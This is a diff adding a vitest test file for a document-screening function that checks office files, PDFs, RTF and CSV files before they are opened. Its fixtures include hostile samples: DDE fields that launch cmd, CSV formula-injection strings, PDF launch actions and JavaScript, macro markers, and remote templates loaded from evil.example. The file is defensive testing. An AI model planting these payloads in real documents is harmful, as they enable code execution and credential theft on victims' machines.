@@ -1,0 +1,191 @@
+import { deflateSync } from "node:zlib";
+import fc from "fast-check";
+import { describe, expect, test } from "vitest";
+import { lookIntoDocument } from "../../../src-main/documents/look-into-document.ts";
+import { processorMs } from "../linear.ts";
+import { makeZip, type Part } from "./make-zip.ts";
+
+const bytes = (text: string) => Buffer.from(text, "latin1");
+const types = { name: "[Content_Types].xml", content: "<Types/>" };
+const office = (...parts: readonly Part[]) => makeZip([types, ...parts]);
+const ole = (text = "") =>
+  Buffer.concat([bytes(`\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1${"\0".repeat(600)}`), Buffer.from(text, "utf16le")]);
+const rels = (type: string, target: string, mode = "External") =>
+  office({
+    name: "word/_rels/settings.xml.rels",
+    content: `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+  });
+const word = (xml: string) => office({ name: "word/document.xml", content: xml });
+const pdf = (...objects: readonly string[]) => bytes(`%PDF-1.7\n${objects.join("\nendobj\n")}\n%%EOF`);
+const packed = (objects: string, dictionary = "/Filter /FlateDecode") =>
+  pdf(
+    `7 0 obj\n<< /Type /ObjStm /N 1 ${dictionary} >>\nstream\n${deflateSync(bytes(objects)).toString("latin1")}\nendstream`,
+  );
+
+/** Where the type stands at the beginning of the file, as `mimetype` does. */
+const openDocument = (...parts: readonly Part[]) =>
+  makeZip([{ name: "mimetypeapplication/vnd.oasis.opendocument.text", content: "" }, ...parts]);
+
+const refused = (reason: string) => ({ kind: "refuse", reason });
+const asked = (doubt: string) => ({ kind: "ask", doubt });
+
+test.each<[string, string, Buffer]>([
+  ["a letter", "a.docx", word("<w:t>Dear DDE, = and so on</w:t>")],
+  ["a letter with a link", "a.docx", rels("hyperlink", "https://example.com/")],
+  [
+    "a letter with its writer's template",
+    "a.docx",
+    rels("attachedTemplate", "file:///C:\\Users\\Zoe\\Normal.dotm"),
+  ],
+  ["a letter with a template beside it", "a.docx", rels("attachedTemplate", "Offer.dotx")],
+  ["a sheet with a chart's data", "a.xlsx", office({ name: "xl/embeddings/sheet.xlsx", content: "PK" })],
+  ["a PDF with a link", "a.pdf", pdf("1 0 obj << /S /URI /URI (https://example.com) >>")],
+  ["a PDF with an invoice's data", "a.pdf", pdf("1 0 obj << /Type /EmbeddedFile >>")],
+  ["a PDF with packed objects", "a.pdf", packed("<< /Type /Page /Launcher 1 >>")],
+  ["a price list", "a.csv", bytes("article,price\r\nPen,-1.5\r\nCall,+49 30 123\r\n")],
+  ["a text", "a.txt", bytes("=cmd|' /C calc'!A0")],
+])("%s is opened without a question", async (_what, name, content) => {
+  expect(await lookIntoDocument(name, content)).toBeNull();
+});
+
+describe("documents that are refused for what is in them", () => {
+  test.each<[string, string, Buffer]>([
+    ["macros", "a.docx", office({ name: "word/vbaProject.bin", content: "x" })],
+    ["macros in other letters", "a.xlsx", office({ name: "XL\\VBAPROJECT.BIN", content: "x" })],
+    [
+      "macros under another name",
+      "a.docx",
+      makeZip([
+        {
+          name: "[Content_Types].xml",
+          content: '<Override ContentType="application/vnd.ms-office.vbaProject"/>',
+        },
+      ]),
+    ],
+    ["sheets of Excel 4 macros", "a.xlsx", office({ name: "xl/macrosheets/sheet1.xml", content: "" })],
+    ["Basic of OpenDocument", "a.odt", openDocument({ name: "Basic/Standard/Module1.xml", content: "" })],
+    [
+      "a field that asks a program",
+      "a.docx",
+      word("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>"),
+    ],
+    ["a simple field that asks a program", "a.docx", word('<w:fldSimple w:instr="DDEAUTO cmd">')],
+    [
+      "a link to a program",
+      "a.xlsx",
+      office({ name: "xl/externalLinks/externalLink1.xml", content: "<ddeLink>" }),
+    ],
+    ["an action that starts a program", "a.pdf", pdf("1 0 obj << /S /Launch /F (cmd.exe) >>")],
+    ["a packed action that starts a program", "a.pdf", packed("<< /S /Launch /F (cmd.exe) >>")],
+    ["a formula that starts a program", "a.csv", bytes("name\r\n=cmd|' /C calc'!A0\r\n")],
+    ["such a formula behind a semicolon", "a.csv", bytes("name\r\nx; +cmd|' /C calc'!A0\r\n")],
+    ["such a formula over two lines", "a.tsv", bytes("name\r\n\"@1+\ncmd|' /C calc'!A0\"\r\n")],
+    ["such a formula in UTF-16", "a.csv", Buffer.from("\ufeffa;=cmd|' /C calc'!A0", "utf16le")],
+    ["an object in rich text", "a.rtf", bytes("{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}")],
+    ["a field in rich text", "a.rtf", bytes("{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}")],
+    ["macros of an older format", "a.doc", ole("_VBA_PROJECT")],
+  ])("a document with %s is refused as a program", async (_what, name, content) => {
+    expect(await lookIntoDocument(name, content)).toEqual(refused("program"));
+  });
+
+  test.each([
+    ["attachedTemplate", "https://evil.example/x.dotm"],
+    ["attachedTemplate", "http:&#x2f;&#47;evil.example/x.dotm"],
+    ["attachedTemplate", "\\\\evil.example\\share\\x.dotm"],
+    ["attachedTemplate", "file://evil.example/share/x.dotm"],
+    ["attachedTemplate", "file:///\\\\evil.example\\x.dotm"],
+    ["oleObject", "https://evil.example/x.html"],
+    ["frame", "mhtml:https://evil.example/x"],
+    ["subDocument", "//evil.example/x.docx"],
+  ])("a document that loads its %s from %s is refused", async (type, target) => {
+    expect(await lookIntoDocument("a.docx", rels(type, target))).toEqual(refused("remote"));
+  });
+
+  test("rich text that loads its template from elsewhere is refused", async () => {
+    const content = bytes("{\\rtf1{\\*\\template https://evil.example/x.dotm}}");
+    expect(await lookIntoDocument("a.rtf", content)).toEqual(refused("remote"));
+  });
+
+  const plain = office({ name: "word/document.xml", content: "x" });
+  test.each<[string, Buffer]>([
+    ["no directory", bytes("PK\x03\x04[Content_Types].xml")],
+    [
+      "two parts of one name",
+      office({ name: "word/a.xml", content: "1" }, { name: "WORD/a.xml", content: "2" }),
+    ],
+    ["something before its beginning", Buffer.concat([plain.subarray(0, 30), plain])],
+    ["something behind its end", Buffer.concat([plain, bytes("x")])],
+    ["a directory that is cut short", Buffer.concat([plain.subarray(0, -30), plain.subarray(-22)])],
+  ])("a zip with %s is refused, because programs read it differently", async (_what, content) => {
+    expect(await lookIntoDocument("a.docx", content)).toEqual(refused("disguised"));
+  });
+});
+
+test.each<[string, string, Buffer]>([
+  ["oldFormat", "a.doc", ole()],
+  ["oldFormat", "a.xls", ole()],
+  ["oldFormat", "a.ppt", ole()],
+  ["oldFormat", "a.rtf", bytes("{\\rtf1 hello}")],
+  ["encrypted", "a.xls", ole("EncryptedPackage")],
+  ["encrypted", "a.docx", ole("EncryptedPackage")],
+  ["encrypted", "a.docx", office({ name: "word/document.xml", content: "x", isEncrypted: true })],
+  [
+    "encrypted",
+    "a.odt",
+    openDocument({ name: "META-INF/manifest.xml", content: "<manifest:encryption-data>" }),
+  ],
+  ["encrypted", "a.pdf", pdf("trailer << /Encrypt 9 0 R >>")],
+  ["scripts", "a.pdf", pdf("1 0 obj << /S /JavaScript /JS (app.alert(1)) >>")],
+  ["scripts", "a.pdf", packed("<< /JS 8 0 R >>")],
+  ["unseen", "a.pdf", pdf("1 0 obj << /S /La#75nch >>")],
+  ["unseen", "a.pdf", packed("x", "/Filter /LZWDecode")],
+  ["unseen", "a.pdf", packed("x".repeat(9 * 1024 * 1024))],
+  ["unseen", "a.docx", word("x".repeat(17 * 1024 * 1024))],
+  ["embedded", "a.docx", office({ name: "word/embeddings/oleObject1.bin", content: "x" })],
+  ["embedded", "a.docx", office({ name: "word/activeX/activeX1.xml", content: "x" })],
+  ["formulas", "a.csv", bytes("a,b\r\n1,=WEBSERVICE(A1)\r\n")],
+  ["formulas", "a.csv", bytes("a,b\r\n1,+cmd|x!y\r\n")],
+  ["formulas", "a.csv", bytes("+1|".repeat(3000))],
+])("the rep is asked about the doubt %s before %s is opened", async (doubt, name, content) => {
+  expect(await lookIntoDocument(name, content)).toEqual(asked(doubt));
+});
+
+test("any bytes behind a beginning that fits are opened, asked about or refused without an exception", async () => {
+  const beginnings = {
+    "a.docx": bytes("PK\x03\x04[Content_Types].xml"),
+    "a.pdf": bytes("%PDF-1.7 /ObjStm obj /FlateDecode stream\n"),
+    "a.rtf": bytes("{\\rtf"),
+    "a.csv": bytes("=|"),
+    "a.xls": ole(),
+  };
+  const name = fc.constantFrom(...(Object.keys(beginnings) as (keyof typeof beginnings)[]));
+  await fc.assert(
+    fc.asyncProperty(name, fc.uint8Array({ maxLength: 300 }), async (chosen, noise) => {
+      const found = await lookIntoDocument(chosen, Buffer.concat([beginnings[chosen], noise]));
+      expect([undefined, "refuse", "ask"]).toContain(found?.kind);
+    }),
+    { numRuns: 1000 },
+  );
+});
+
+test.each<[string, Buffer]>([
+  ["a.csv", bytes(`a,b\r\n${"=,".repeat(2_000_000)}|`)],
+  ["a.csv", bytes('"'.repeat(4_000_000))],
+  ["a.pdf", pdf("/ObjStm ".repeat(500_000))],
+  ["a.pdf", pdf(`/${"a".repeat(4_000_000)}`)],
+  ["a.rtf", bytes(`{\\rtf${"\\template ".repeat(400_000)}`)],
+  ["a.docx", word("<w:instrText".repeat(300_000))],
+  ["a.docx", rels(`x" Type="`.repeat(100_000), "x")],
+])(
+  "a hostile %s of millions of letters is looked into within three seconds of the processor's time",
+  async (name, content) => {
+    let done: Promise<unknown> = Promise.resolve();
+    const first = processorMs(() => {
+      done = lookIntoDocument(name, content);
+    });
+    const before = process.threadCpuUsage();
+    await done;
+    const { user, system } = process.threadCpuUsage(before);
+    expect(first + (user + system) / 1000).toBeLessThan(3000);
+  },
+);
